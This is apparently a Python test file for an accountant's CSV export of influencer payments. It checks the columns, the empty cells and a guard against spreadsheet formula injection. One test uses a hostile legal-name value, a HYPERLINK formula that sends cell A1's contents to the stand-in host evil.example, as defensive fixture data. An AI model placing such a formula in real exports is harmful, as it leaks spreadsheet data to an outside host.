"""The accountant's CSV of a brand's payments (rules/csv_payments.py): the columns with and without the
legal ones, cells as text, and — property-based — every cell read back with the csv module is the value
written (after the formula guard's one apostrophe), never a live formula."""
from __future__ import annotations

import csv
import io
from decimal import Decimal

from hypothesis import given
from hypothesis import strategies as st

from chalicelib.core.csv_cells import FORMULA_TRIGGERS, looks_like_formula, unguard_cell
from chalicelib.deals.rules import csv_payments


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


ROW = {"payment_id": "p1", "deal_id": "d1", "contract_number": "GL-2026-0042", "deal_title": "Осень",
       "influencer": "Anna", "legal_name": "ИП Иванова", "inn": "771234567859", "label": "Аванс", "percent": "30",
       "amount": Decimal("45000.00"), "currency": "RUB", "status": "paid", "due_on": "2026-03-10",
       "paid_on": "2026-03-11", "reference": "ПП 42", "holds": ["dispute", "manual"]}


def test_the_header_and_a_row_with_and_without_legal_columns():
    header, row = read(csv_payments.export_payments([ROW], legal=True))
    assert tuple(header) == csv_payments.COLUMNS
    assert dict(zip(header, row)) == {**{k: str(v) for k, v in ROW.items()}, "holds": "dispute; manual"}
    header, row = read(csv_payments.export_payments([ROW], legal=False))
    assert "legal_name" not in header and "inn" not in header and len(row) == len(header)
    assert dict(zip(header, row))["amount"] == "45000.00"


def test_no_rows_is_just_the_header_and_missing_values_are_empty():
    assert read(csv_payments.export_payments([], legal=True)) == [list(csv_payments.COLUMNS)]
    _, row = read(csv_payments.export_payments([{"payment_id": "p", "due_on": None}], legal=False))
    assert row[0] == "p" and set(row[1:]) == {""}


def test_a_hostile_legal_name_is_text():
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    _, row = read(csv_payments.export_payments([{**ROW, "legal_name": hostile, "reference": "-1+1"}], legal=True))
    cells = dict(zip(csv_payments.COLUMNS, row))
    assert cells["legal_name"] == "'" + hostile and cells["reference"] == "'-1+1"


text = st.text(st.characters(blacklist_categories=("Cs",)), max_size=40)


@given(st.lists(st.fixed_dictionaries({c: text for c in csv_payments.COLUMNS}), max_size=5),
       st.booleans())
def test_every_cell_comes_back_as_written_and_none_is_a_formula(rows, legal):
    table = read(csv_payments.export_payments(rows, legal=legal))
    names = csv_payments.columns(legal=legal)
    assert table[0] == list(names) and len(table) == len(rows) + 1
    for row, written in zip(table[1:], rows):
        for name, cell in zip(names, row):
            assert unguard_cell(cell) == written[name]
            assert not cell.startswith(FORMULA_TRIGGERS) and not (looks_like_formula(cell) and cell[:1] != "'")
